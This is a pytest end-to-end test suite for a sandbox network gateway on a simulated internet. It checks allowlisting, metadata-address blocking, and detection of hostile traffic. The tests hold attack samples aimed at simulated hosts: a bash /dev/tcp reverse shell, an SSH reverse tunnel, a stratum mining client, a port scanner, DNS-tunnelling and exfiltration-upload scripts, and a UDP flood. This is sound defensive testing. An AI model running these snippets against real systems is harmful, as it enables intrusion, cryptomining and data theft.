"""End-to-end: real namespaces, nftables and servers on the simulated internet."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest
from gateway_helpers import NOBODY_UID, SANDBOX_UID, gateway_policy, needs_root

from corral.bench.simnet import SimNet
from corral.events import EventKind

pytestmark = [pytest.mark.asyncio(loop_scope="module"), needs_root]

EXAMPLE = {"domain": "example.sim.test"}
SSH_OPTS = (
    "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
    "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
)


def _denied_events(client, **match):
    return [e for e in client.events(EventKind.NET_CONNECT, verdict="deny", **match)]


async def test_allowed_domain_over_http_and_https(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    http = await client.run("curl", "-sS", "-m", "10", "http://example.sim.test/hello")
    https = await client.run(
        "curl", "-sS", "-m", "10", "--cacert", simnet.ca_pem, "https://example.sim.test/tls"
    )
    assert http.rc == 0 and "hello from web (GET /hello)" in http.out, http
    assert https.rc == 0 and "hello from web (GET /tls)" in https.out, https
    await client.settle()
    ends = client.events(EventKind.NET_CONNECT, verdict="allow", phase="end")
    protocols = {(e.data["protocol"], e.data["server_name"], e.data["port"]) for e in ends}
    assert ("http", "example.sim.test", 80) in protocols
    assert ("tls", "example.sim.test", 443) in protocols
    assert all(e.data["bytes_up"] > 0 and e.data["bytes_down"] > 0 for e in ends)
    assert all(e.sandbox_id == client.attachment.sandbox_id and e.step == 1 for e in ends)
    dns = client.events(EventKind.NET_DNS, name="example.sim.test", qtype="A")
    assert dns and dns[0].data["answers"] == [simnet.ip("web")]


async def test_pip_install_from_allowed_index(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy({"domain": "pypi.sim.test", "ports": [443]}))
    tmp = Path(tempfile.mkdtemp(prefix="corral-piptest-"))
    try:
        venv = tmp / "venv"
        proc = await _run_host("/usr/bin/python3", "-m", "venv", "--without-pip", str(venv))
        assert proc == 0
        os.chown(tmp, SANDBOX_UID, SANDBOX_UID)
        for path in [venv, *venv.rglob("*")]:
            os.lchown(path, SANDBOX_UID, SANDBOX_UID)
        result = await client.run(
            "/usr/bin/python3", "-m", "pip", "--python", str(venv / "bin" / "python"),
            "install", "--no-cache-dir", "--disable-pip-version-check",
            "--index-url", "https://pypi.sim.test/simple", "--cert", simnet.ca_pem,
            simnet.project.replace("-", "_"),
            env={"HOME": str(tmp)}, timeout=120,
        )
        assert result.rc == 0, result
        check = await client.run(
            str(venv / "bin" / "python"), "-c",
            "import corral_testpkg; print(corral_testpkg.MESSAGE)",
        )
        assert "simulated index" in check.out, check
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    await client.settle()
    allowed = client.events(EventKind.NET_CONNECT, verdict="allow", server_name="pypi.sim.test")
    assert allowed and all(e.data["protocol"] == "tls" for e in allowed)


async def _run_host(*cmd: str) -> int:
    import asyncio

    proc = await asyncio.create_subprocess_exec(*cmd)
    return await asyncio.wait_for(proc.wait(), 60)


async def test_denied_domain_gets_nxdomain_and_403(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    before = simnet.received("other"), simnet.received("web")
    lookup = await client.run("getent", "hosts", "evil.sim.test")
    assert lookup.rc != 0
    # Straight to the IP, naming the forbidden host: refused with a 403 that says why.
    direct = await client.run(
        "curl", "-sS", "-m", "10", "-D", "-", "-H", "Host: evil.sim.test",
        f"http://{simnet.ip('other')}/",
    )
    assert "403" in direct.out.splitlines()[0], direct
    assert "X-Corral-Denied: evil.sim.test is not an allowed domain" in direct.out
    # The allowed name's IP under a forbidden Host is refused too.
    fronted = await client.run(
        "curl", "-sS", "-m", "10", "-D", "-", "-H", "Host: evil.sim.test",
        f"http://{simnet.ip('web')}/",
    )
    assert "403" in fronted.out.splitlines()[0], fronted
    await client.settle()
    assert client.events(EventKind.NET_DNS, name="evil.sim.test", verdict="deny")
    assert len(_denied_events(client, server_name="evil.sim.test")) == 2
    assert (simnet.received("other"), simnet.received("web")) == before


async def test_forbidden_sni_or_no_sni_to_allowed_ip_refused(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    web = simnet.ip("web")
    warm = await client.run("getent", "hosts", "example.sim.test")
    assert web in warm.out
    before = simnet.received()
    wrong_sni = await client.run(
        "curl", "-sS", "-m", "10", "--cacert", simnet.ca_pem,
        "--resolve", f"evil.sim.test:443:{web}", "https://evil.sim.test/",
    )
    no_sni = await client.run("curl", "-sS", "-m", "10", "-k", f"https://{web}/")
    # The right SNI, but to an address the name never resolved to.
    wrong_ip = await client.run(
        "curl", "-sS", "-m", "10", "--cacert", simnet.ca_pem,
        "--resolve", f"example.sim.test:443:{simnet.ip('other')}", "https://example.sim.test/",
    )
    assert wrong_sni.rc != 0 and no_sni.rc != 0 and wrong_ip.rc != 0
    await client.settle()
    denied = _denied_events(client, protocol="tls")
    assert {e.data.get("server_name") for e in denied} == {"evil.sim.test", None,
                                                            "example.sim.test"}
    assert simnet.received() == before


@pytest.mark.parametrize("port", [22, 443])
async def test_ssh_reverse_tunnel_refused_and_flagged(attach, simnet: SimNet, port: int) -> None:
    # Even a rule that opens the host on 443 does not let ssh through: ssh must be named.
    client = await attach(gateway_policy({"cidr": f"{simnet.ip('ssh')}/32", "ports": [443]}))
    before = simnet.received("ssh")
    result = await client.run(
        "ssh", *SSH_OPTS, "-p", str(port), "-N", "-R", "9000:127.0.0.1:22",
        f"agent@{simnet.ip('ssh')}", uid=NOBODY_UID, timeout=30,
    )
    assert result.rc != 0
    await client.settle()
    signals = client.events(EventKind.NET_SIGNAL, signal="ssh_outbound", port=port)
    assert signals and signals[0].data["severity"] == "high"
    assert signals[0].pid is not None and signals[0].episode_id == "episode-1"
    assert _denied_events(client, protocol="ssh", port=port)
    assert simnet.received("ssh") == before


STRATUM_CLIENT = """
import json, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6"]}).encode()
          + b"\\n")
try:
    print("reply", s.recv(4096))
except OSError as exc:
    print("refused", exc)
"""


@pytest.mark.parametrize("port", [3333, 443])
async def test_stratum_refused_and_flagged(attach, simnet: SimNet, port: int) -> None:
    client = await attach(gateway_policy({"cidr": f"{simnet.ip('pool')}/32", "ports": [443]}))
    before = simnet.received("pool"), simnet.pool_stats.subscribes
    result = await client.run("/usr/bin/python3", "-c", STRATUM_CLIENT, simnet.ip("pool"),
                              str(port))
    assert "reply b'{" not in result.out, result
    await client.settle()
    signals = client.events(EventKind.NET_SIGNAL, signal="mining_stratum", port=port)
    assert signals and signals[0].data["severity"] == "critical"
    assert signals[0].data["method"] == "mining.subscribe"
    assert (simnet.received("pool"), simnet.pool_stats.subscribes) == before


async def test_bash_reverse_shell_refused(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    before = simnet.received("sink")
    shell = f"bash -i >& /dev/tcp/{simnet.ip('sink')}/4444 0>&1"
    result = await client.run("bash", "-c", shell, timeout=30)
    assert result.rc != 0
    await client.settle()
    denied = _denied_events(client, dst=simnet.ip("sink"), port=4444)
    assert denied and denied[0].pid is not None
    assert simnet.received("sink") == before


SCAN = """
import socket, sys
for port in range(20, 20 + int(sys.argv[2])):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((sys.argv[1], port))
    except OSError:
        pass
    s.close()
"""


async def test_port_scan_flagged(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE, scan_distinct_targets=10, scan_window=30))
    before = simnet.received()
    result = await client.run("/usr/bin/python3", "-c", SCAN, simnet.ip("sink"), "15")
    assert result.rc == 0, result
    await client.settle(0.8)
    scans = client.events(EventKind.NET_SIGNAL, signal="scan")
    assert len(scans) == 1 and scans[0].data["distinct_targets"] >= 10
    assert simnet.received() == before


DNS_TUNNEL = """
import socket, secrets
for _ in range(3):
    label = secrets.token_hex(28)
    try:
        socket.getaddrinfo(f"{label}.{secrets.token_hex(10)}.tunnel.sim.test", 80)
    except socket.gaierror:
        pass
"""


async def test_dns_tunnelling_and_pool_lookups_flagged(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    await client.run("/usr/bin/python3", "-c", DNS_TUNNEL)
    await client.run("getent", "hosts", "pool.minexmr.sim.test")
    await client.settle()
    tunnels = client.events(EventKind.NET_SIGNAL, signal="dns_tunnel")
    assert tunnels and all(e.data["entropy"] >= 3.5 for e in tunnels)
    assert client.events(EventKind.NET_SIGNAL, signal="mining_pool_dns")
    assert all(e.data["verdict"] == "deny" for e in client.events(EventKind.NET_DNS))


async def test_rebinding_answer_refused(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy({"domain": "*.sim.test"}))
    for name in ("rebind.sim.test", "loopback.sim.test", "metadata.sim.test"):
        result = await client.run("getent", "hosts", name)
        assert result.rc != 0, (name, result)
    await client.settle()
    refused = client.events(EventKind.NET_DNS, rcode="REFUSED", verdict="deny")
    assert len({e.data["name"] for e in refused}) == 3


async def test_host_and_gateway_addresses_refused(attach, simnet: SimNet) -> None:
    # Even a rule opening the whole test block can't reach this machine's own address
    # on it (the simnet bridge), nor the gateway's end of the sandbox link.
    client = await attach(gateway_policy({"cidr": "198.51.100.0/24"}))
    for url, why in ((f"http://{simnet.bridge_address}:22/", "this host"),
                     (f"http://{client.attachment.gateway_address}:8080/", "link-local")):
        result = await client.run("curl", "-sS", "-m", "10", "-D", "-", url)
        assert "403" in result.out.splitlines()[0] and why in result.out, result


async def test_metadata_address_and_ipv6_refused(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    meta = await client.run("curl", "-sS", "-m", "10", "-D", "-",
                            "http://169.254.169.254/latest/meta-data/")
    assert "403" in meta.out.splitlines()[0] and "cloud metadata" in meta.out, meta
    # 2001:db8::/32 is documentation space; the packet never leaves the gateway namespace.
    six = await client.run("curl", "-sS", "-m", "10", "-g", "-D", "-", "http://[2001:db8::10]/")
    assert "403" in six.out.splitlines()[0] and "ipv6" in six.out, six
    await client.settle()
    assert _denied_events(client, dst="169.254.169.254")
    assert _denied_events(client, dst="2001:db8::10")


UDP = """
import socket, sys
for family, addr in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, "2001:db8::99")):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(b"x" * 100, (addr, 9999))
    s.close()
"""


async def test_udp_other_than_dns_dropped_and_logged(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    before = simnet.received("sink")
    result = await client.run("/usr/bin/python3", "-c", UDP, simnet.ip("sink"))
    assert result.rc == 0, result
    await client.settle()
    dropped = client.events(EventKind.NET_CONNECT, transport="udp", verdict="deny")
    assert {(e.data["dst"], e.data["port"]) for e in dropped} == {
        (simnet.ip("sink"), 9999), ("2001:db8::99", 9999)}
    assert all(e.data["bytes_up"] == 100 for e in dropped)
    assert simnet.received("sink") == before


UPLOAD = """
import socket, sys
body = b"z" * (3 * 1024 * 1024)
s = socket.create_connection((sys.argv[1], 4444), timeout=10)
s.sendall(body)
s.shutdown(socket.SHUT_WR)
got = 0
while chunk := s.recv(1 << 16):
    got += len(chunk)
print(got)
"""


async def test_allowed_cidr_relays_both_ways(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy({"cidr": f"{simnet.ip('sink')}/32", "ports": [4444]}))
    before = simnet.received("sink")
    result = await client.run("/usr/bin/python3", "-c", UPLOAD, simnet.ip("sink"))
    assert result.out.strip() == str(3 * 1024 * 1024), result
    await client.settle()
    (end,) = client.events(EventKind.NET_CONNECT, verdict="allow", phase="end")
    assert end.data["bytes_up"] == end.data["bytes_down"] == 3 * 1024 * 1024
    assert simnet.received("sink") - before == 3 * 1024 * 1024


EXFIL = """
import socket, sys, time
body = b"q" * (2 * 1024 * 1024)
s = socket.create_connection((sys.argv[1], 80), timeout=10)
s.sendall(b"POST /upload HTTP/1.1\\r\\nHost: example.sim.test\\r\\n"
          + f"Content-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n".encode())
s.sendall(body)
time.sleep(0.5)  # still connected while the gateway looks the uploader up
print(s.recv(4096).decode().splitlines()[-1])
"""


async def test_upload_far_above_download_flagged(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE, exfil_min_bytes=1024 * 1024))
    warm = await client.run("getent", "hosts", "example.sim.test")
    assert simnet.ip("web") in warm.out
    result = await client.python(EXFIL, simnet.ip("web"))
    assert "received 2097152 bytes" in result.out, result
    await client.settle()
    (signal,) = client.events(EventKind.NET_SIGNAL, signal="exfiltration")
    # Raised while the upload was still going, naming the process doing it.
    assert signal.data["bytes_up"] >= 1024 * 1024 and signal.data["severity"] == "high"
    assert signal.data["dst"] == simnet.ip("web") and signal.pid is not None
    (end,) = client.events(EventKind.NET_CONNECT, phase="end")
    assert end.data["bytes_up"] > 2 * 1024 * 1024 and end.pid == signal.pid


async def test_events_are_json_serialisable(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    await client.run("curl", "-sS", "-m", "10", "http://example.sim.test/")
    await client.settle()
    for event in client.sink.events:
        json.dumps(event.to_dict())


HOLD = """
import socket, sys
s = socket.create_connection((sys.argv[1], 4444), timeout=20)
s.sendall(b"hi")
print(s.recv(10).decode(), flush=True)
try:
    print("closed" if s.recv(10) == b"" else "data", flush=True)
except OSError as exc:
    print("closed", exc, flush=True)
"""


async def test_close_cuts_open_flows(attach, simnet: SimNet) -> None:
    import asyncio

    steps = [4]
    client = await attach(
        gateway_policy({"cidr": f"{simnet.ip('sink')}/32", "ports": [4444]}),
        step=lambda: steps[0],
    )
    before = simnet.received("sink")
    running = asyncio.ensure_future(client.python(HOLD, simnet.ip("sink"), timeout=30))
    for _ in range(200):  # until the relayed flow is open and echoed
        if simnet.received("sink") > before:
            break
        await asyncio.sleep(0.05)
    await asyncio.sleep(0.2)
    steps[0] = 5  # the agent moved on; the flow still belongs to the step that opened it
    await client.attachment.close()
    result = await asyncio.wait_for(running, 15)
    lines = result.out.splitlines()
    assert lines[0] == "hi" and lines[1].startswith("closed"), result
    (end,) = client.events(EventKind.NET_CONNECT, phase="end")
    assert end.step == 4


FLOOD = """
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(400):
    s.sendto(b"f", (sys.argv[1], 5353))
time.sleep(1.2)
s.sendto(b"last", (sys.argv[1], 5353))
"""


async def test_udp_flood_is_reported_in_bounded_form(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    before = simnet.received("sink")
    result = await client.python(FLOOD, simnet.ip("sink"))
    assert result.rc == 0, result
    await client.settle()
    dropped = client.events(EventKind.NET_CONNECT, transport="udp")
    assert 2 <= len(dropped) <= 60
    assert dropped[-1].data["suppressed_before"] > 0
    # Every datagram the kernel queued is accounted for, reported or counted.
    assert 300 <= sum(1 + e.data["suppressed_before"] for e in dropped) <= 401
    assert simnet.received("sink") == before


TCP_DNS = """
import socket, struct, sys
def query(name, qid):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return q + struct.pack("!HH", 1, 1)
# Any address on port 53: the gateway answers, it never relays DNS.
s = socket.create_connection((sys.argv[1], 53), timeout=5)
for qid, name in ((1, "example.sim.test"), (2, "evil.sim.test")):
    msg = query(name, qid)
    s.sendall(struct.pack("!H", len(msg)) + msg)
    size = struct.unpack("!H", s.recv(2))[0]
    reply = b""
    while len(reply) < size:
        reply += s.recv(size - len(reply))
    print(name, reply[3] & 0x0F, socket.inet_ntoa(reply[-4:]) if reply[3] & 0x0F == 0 else "-")
"""


async def test_dns_over_tcp_is_answered_by_the_gateway(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy(EXAMPLE))
    before = simnet.received("sink")
    result = await client.python(TCP_DNS, simnet.ip("sink"))
    assert result.out.splitlines() == [
        f"example.sim.test 0 {simnet.ip('web')}", "evil.sim.test 3 -"], result
    await client.settle()
    answered = client.events(EventKind.NET_DNS, transport="tcp")
    assert {(e.data["name"], e.data["verdict"]) for e in answered} == {
        ("example.sim.test", "allow"), ("evil.sim.test", "deny")}
    assert simnet.received("sink") == before


RAW = """
import socket, sys
# ICMP echo and a raw SCTP-numbered packet, as a process that could open raw sockets would.
icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
icmp.sendto(bytes([8, 0, 0xF7, 0xFF, 0, 0, 0, 0]), (sys.argv[1], 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 132)
raw.sendto(b"x" * 12, (sys.argv[1], 0))
"""


async def test_other_protocols_dropped_and_logged(attach, simnet: SimNet) -> None:
    client = await attach(gateway_policy({"cidr": f"{simnet.ip('sink')}/32"}))
    # Root inside the namespace only to get raw sockets; the sandbox uid has none.
    result = await client.python(RAW, simnet.ip("sink"), uid=0)
    assert result.rc == 0, result
    await client.settle()
    dropped = client.events(EventKind.NET_CONNECT, dst=simnet.ip("sink"), verdict="deny")
    assert {e.data["transport"] for e in dropped} == {"icmp", "sctp"}


async def test_address_the_host_gains_later_is_refused(attach, simnet: SimNet) -> None:
    import asyncio

    from corral.gateway.listener import is_host_address

    late = "198.51.100.254"
    client = await attach(gateway_policy({"cidr": "198.51.100.0/24"}))
    add = await asyncio.create_subprocess_exec(
        "ip", "addr", "add", f"{late}/32", "dev", simnet.bridge)
    assert await add.wait() == 0
    try:
        assert is_host_address(late) and not is_host_address("198.51.100.253")
        result = await client.run("curl", "-sS", "-m", "10", "-D", "-", f"http://{late}:22/")
        assert "403" in result.out.splitlines()[0] and "of this host" in result.out, result
    finally:
        delete = await asyncio.create_subprocess_exec(
            "ip", "addr", "del", f"{late}/32", "dev", simnet.bridge)
        await delete.wait()
    assert not is_host_address(late)
